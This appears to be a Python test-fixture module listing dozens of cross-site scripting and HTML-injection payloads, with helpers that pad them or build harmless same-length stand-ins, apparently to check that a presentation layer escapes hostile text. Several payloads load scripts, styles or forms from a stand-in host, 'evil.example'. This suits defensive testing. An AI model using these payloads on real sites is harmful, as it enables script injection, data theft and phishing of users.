"""What do people write who want a page to run it, send it or draw it?

Each text sets `window.canary`, calls `alert`, asks another host, adds an element or breaks out of
what stands around it, where a page would let it. No comma, since lists are told apart by them.
"""

from __future__ import annotations

from countersign.presentation.words import visible

PAYLOADS: tuple[str, ...] = (
    "<script>window.canary=1</script>",
    "<script src=//evil.example/x.js></script>",
    "<ScRiPt>window.canary=1</sCrIpT>",
    "<scr<script>ipt>window.canary=1</script>",
    "</script><script>window.canary=1</script>",
    "</title><script>window.canary=1</script>",
    "</textarea><script>window.canary=1</script>",
    "</style><script>window.canary=1</script>",
    "</option></select><script>window.canary=1</script>",
    "</p></div></main><h1>Approved</h1>",
    "--><script>window.canary=1</script><!--",
    "]]><script>window.canary=1</script>",
    "<!--",
    "<plaintext>",
    "<img src=x onerror=window.canary=1>",
    "<img src=//evil.example/pixel.gif>",
    "<svg onload=window.canary=1>",
    "<svg><script>window.canary=1</script></svg>",
    "<svg><animate onbegin=window.canary=1 attributeName=x dur=1s>",
    "<math><mtext><img src=x onerror=window.canary=1>",
    "<body onload=window.canary=1>",
    "<iframe src=javascript:parent.canary=1></iframe>",
    "<iframe srcdoc='<script>parent.canary=1</script>'></iframe>",
    "<object data=//evil.example/x></object>",
    "<embed src=//evil.example/x>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<form action=//evil.example/><input name=reason>",
    "<input autofocus onfocus=window.canary=1>",
    "<button formaction=//evil.example/>Approve</button>",
    "<details open ontoggle=window.canary=1>",
    "<video><source onerror=window.canary=1></video>",
    "<audio src=x onerror=window.canary=1>",
    "<marquee onstart=window.canary=1>",
    "<a href=javascript:window.canary=1>Approve</a>",
    "<a href=//evil.example/>Approve</a>",
    "<style>*{display:none}</style>",
    "<style>@import '//evil.example/x.css';</style>",
    "<div style=position:fixed;inset:0;background:red>",
    "<template shadowrootmode=open><script>window.canary=1</script></template>",
    '" onfocus=window.canary=1 autofocus x="',
    "' onfocus=window.canary=1 autofocus x='",
    '"><script>window.canary=1</script>',
    "'><script>window.canary=1</script>",
    '" style="background:url(//evil.example/x)',
    "` onfocus=window.canary=1 autofocus x=`",
    "javascript:window.canary=1",
    "java\tscript:window.canary=1",
    "data:text/html;base64;PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg",
    "&lt;script&gt;window.canary=1&lt;/script&gt;",
    "&#60;script&#62;window.canary=1&#60;/script&#62;",
    "&#x3C;img src=x onerror=window.canary=1&#x3E;",
    "\\u003cscript\\u003ewindow.canary=1\\u003c/script\\u003e",
    "%3Cscript%3Ewindow.canary=1%3C/script%3E",
    "\uff1cscript\uff1ewindow.canary=1\uff1c/script\uff1e",
    "+ADw-script+AD4-window.canary=1+ADw-/script+AD4-",
    "{{constructor.constructor('window.canary=1')()}}",
    "${window.canary=1}",
    "<%= window.canary=1 %>",
    "<script\x00>window.canary=1</script>",
    "<\x00script>window.canary=1</script>",
    "<script>\u2028window.canary=1</script>",
    "<b>a</b>\n<script>window.canary=1</script>",
    "[Approve](javascript:window.canary=1)",
    "\u202e<script>window.canary=1</script>",
)


_LENGTHS = (58, 90)
"""What fits a cell of a table, and what does not: the two ways a short text is laid out."""


def filled(payload: str) -> str:
    """The payload with a comment behind it, as long to read as others of its sort."""
    length = len(visible(payload)) + len(" //")
    return f"{payload} //" + "x" * (next(each for each in _LENGTHS if length <= each) - length)


def harmless(text: str) -> str:
    """A text that is laid out the same, and that nobody could take for anything else."""
    return "".join(letter if letter == "\n" else "x" for letter in visible(text))
